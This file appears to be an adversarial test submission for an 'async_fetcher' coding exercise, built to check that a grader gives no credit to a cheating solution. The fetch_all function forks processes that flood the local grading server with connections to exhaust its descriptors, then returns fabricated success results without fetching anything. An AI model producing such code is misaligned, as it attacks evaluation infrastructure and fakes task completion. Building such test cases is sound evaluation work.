# exercise: async_fetcher
# attack: D12, S12
# must: earn no more than a stub
# within: 90 seconds
"""Opens more connections to the forwarded server than anybody has descriptors for, from several processes."""

import os
import socket


def flood(address):
    held = []
    try:
        for _ in range(480):
            held.append(socket.create_connection(address, timeout=0.2))
            held[-1].send(b"GET")
    except OSError:
        pass
    return held


async def fetch_all(urls, max_concurrent=10):
    if urls and urls[0].startswith("http://127"):
        host, _, port = urls[0].split("/")[2].partition(":")
        for _ in range(3):
            if os.fork() == 0:
                held = flood((host, int(port)))
                os.write(1, bytes(len(held)))
                os._exit(0)
        flood((host, int(port)))
    return [{"url": url, "status": 200, "body": ""} for url in urls]
